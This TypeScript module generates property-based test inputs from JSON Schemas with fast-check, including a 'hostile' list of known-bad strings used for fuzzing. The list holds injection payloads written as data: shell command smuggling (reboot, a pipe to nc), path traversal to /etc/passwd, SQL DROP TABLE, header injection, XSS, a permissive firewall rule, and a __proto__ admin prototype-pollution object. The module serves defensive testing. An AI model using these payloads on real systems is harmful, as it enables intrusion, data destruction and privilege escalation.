import * as fc from 'fast-check';

/** JSON Schema as zod writes it (draft 2020-12). */
export type Schema = Readonly<Record<string, unknown>>;

/** Names and texts that have broken other programs. */
export const hostile: readonly string[] = [
  '',
  ' ',
  '.',
  '..',
  '../../etc/passwd',
  '/etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '__proto__',
  'constructor',
  'toString',
  '$(reboot)',
  '`reboot`',
  '; reboot #',
  '| nc 192.0.2.1 1',
  "'; DROP TABLE accounts; --",
  '" or ""="',
  'a\nb: c',
  'a\r\nSet-Cookie: a=b',
  '[Peer]\nAllowedIPs = 0.0.0.0/0',
  '} table inet evil { chain input { type filter hook input priority -300; accept',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '%s%n%x',
  '%00',
  '\u0000',
  '\u202e\u2066gnp.exe',
  '\ud800',
  'é'.normalize('NFD'),
  'İı',
  '𝒜𝓁𝒾𝒸𝑒',
  '👩‍👩‍👧‍👦',
  '-rf',
  '--help',
  'CON',
  'NaN',
  '1e400',
  '0x10',
  '٣',
  'a'.repeat(5000),
];

const text = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.constantFrom(...hostile) },
);

/** Any JSON, and numbers at their ends. */
const anything = fc.oneof(
  fc.jsonValue({ maxDepth: 2 }),
  text,
  fc.constantFrom(-1, 0, 1.5, 2 ** 31, 2 ** 53, -(2 ** 63), 1e308, '', null, true, [], {}),
);

const formats: Readonly<Record<string, fc.Arbitrary<string>>> = {
  'date-time': fc
    .date({ min: new Date(0), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true })
    .map((date) => date.toISOString()),
  email: fc.emailAddress(),
  uri: fc.webUrl(),
  uuid: fc.uuid(),
  ipv4: fc.ipV4(),
  ipv6: fc.ipV6(),
};

/**
 * Values that mostly fit the schema. What a schema cannot say, and patterns that cannot be made of, come out
 * wrong now and then: whoever asks judges each value by the schema.
 */
export function fitting(schema: unknown, root: unknown = schema): fc.Arbitrary<unknown> {
  if (schema === false) return fc.constant(null);
  if (typeof schema !== 'object' || schema === null) return anything;
  const s = schema as Schema;
  if (typeof s.$ref === 'string') return fitting(resolve(root, s.$ref), root);
  if ('const' in s) return fc.constant(s.const);
  if (Array.isArray(s.enum)) return fc.constantFrom(...s.enum);
  const alternatives = s.anyOf ?? s.oneOf;
  if (Array.isArray(alternatives))
    return fc.oneof(...alternatives.map((one) => fitting(one, root)));
  if (Array.isArray(s.allOf)) {
    const { allOf, ...rest } = s;
    return fitting(Object.assign({}, ...allOf, rest), root);
  }
  if (Array.isArray(s.type))
    return fc.oneof(...s.type.map((type) => fitting({ ...s, type }, root)));
  return byType(s, root);
}

function byType(s: Schema, root: unknown): fc.Arbitrary<unknown> {
  switch (s.type) {
    case 'string':
      return fittingText(s);
    case 'integer':
      return fc.integer({ min: bound(s, 'min', -(2 ** 31)), max: bound(s, 'max', 2 ** 31 - 1) });
    case 'number':
      return fc
        .double({ min: bound(s, 'min', -1e9), max: bound(s, 'max', 1e9), noNaN: true })
        .map((number) => (Object.is(number, -0) ? 0 : number));
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const minLength = number(s.minItems) ?? 0;
      const maxLength = Math.max(minLength, Math.min(number(s.maxItems) ?? 4, minLength + 4));
      return fc.array(fitting(s.items ?? {}, root), { minLength, maxLength });
    }
    case 'object':
      return fittingObject(s, root);
    default:
      return anything;
  }
}

function fittingText(s: Schema): fc.Arbitrary<unknown> {
  const format = formats[String(s.format)];
  if (format) return format;
  const minLength = number(s.minLength) ?? 0;
  const maxLength = Math.max(minLength, Math.min(number(s.maxLength) ?? 60, minLength + 60));
  if (typeof s.pattern === 'string') {
    try {
      const made = fc.stringMatching(new RegExp(s.pattern, 'u'), {
        ...(number(s.maxLength) === undefined ? {} : { maxLength: Number(s.maxLength) }),
      });
      return fc.oneof({ weight: 9, arbitrary: made }, { weight: 1, arbitrary: text });
    } catch {
      return text;
    }
  }
  return fc.oneof(
    { weight: 6, arbitrary: fc.string({ minLength, maxLength }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', minLength, maxLength }) },
    { weight: 1, arbitrary: text },
  );
}

function fittingObject(s: Schema, root: unknown): fc.Arbitrary<unknown> {
  const properties = (s.properties ?? {}) as Record<string, unknown>;
  const model = Object.fromEntries(
    Object.entries(properties).map(([key, value]) => [key, fitting(value, root)]),
  );
  const requiredKeys = ((s.required ?? []) as string[]).filter((key) => key in model);
  const named = fc.record(model, { requiredKeys });
  const further = s.additionalProperties;
  if (typeof further !== 'object' || further === null) return named;
  const keys = fitting(s.propertyNames ?? { type: 'string' }, root).map(String);
  return fc
    .tuple(named, fc.dictionary(keys, fitting(further, root), { maxKeys: 3 }))
    .map(([a, b]) => ({ ...b, ...a }));
}

/** Values that mostly do not fit: one that does with something wrong in it, or anything at all. */
export function unfit(schema: unknown): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.tuple(fitting(schema), anything, fc.nat()).map(spoiled) },
    { weight: 1, arbitrary: anything },
  );
}

/** Puts something else in one place of the value, takes a key away, or adds one. */
function spoiled([value, other, at]: [unknown, unknown, number]): unknown {
  if (Array.isArray(value))
    return value.length === 0 ? other : value.with(at % value.length, other);
  if (typeof value !== 'object' || value === null) return other;
  const entries = Object.entries(value);
  const turn = at % (entries.length * 2 + 2);
  if (turn === 0) return { ...value, unknown_key: other };
  if (turn === 1)
    return JSON.parse(
      `{"__proto__":{"role":"admin"},${JSON.stringify(value).slice(1)}`.replace(/,}$/, '}'),
    );
  const index = Math.floor((turn - 2) / 2);
  return Object.fromEntries(
    turn % 2 === 0
      ? entries.map(([key, one], i) => [key, i === index ? other : one])
      : entries.filter((_, i) => i !== index),
  );
}

function resolve(root: unknown, reference: string): unknown {
  return reference
    .split('/')
    .slice(1)
    .reduce((at, key) => (at as Record<string, unknown> | undefined)?.[key], root);
}

function number(value: unknown): number | undefined {
  return typeof value === 'number' ? value : undefined;
}

function bound(s: Schema, which: 'min' | 'max', unless: number): number {
  const inclusive = number(which === 'min' ? s.minimum : s.maximum);
  const exclusive = number(which === 'min' ? s.exclusiveMinimum : s.exclusiveMaximum);
  const step = s.type === 'integer' ? 1 : 1e-6;
  const value = exclusive === undefined ? inclusive : exclusive + (which === 'min' ? step : -step);
  if (value === undefined) return unless;
  // Beyond these no number of ours makes a difference.
  return Math.max(-(2 ** 53), Math.min(2 ** 53, value));
}
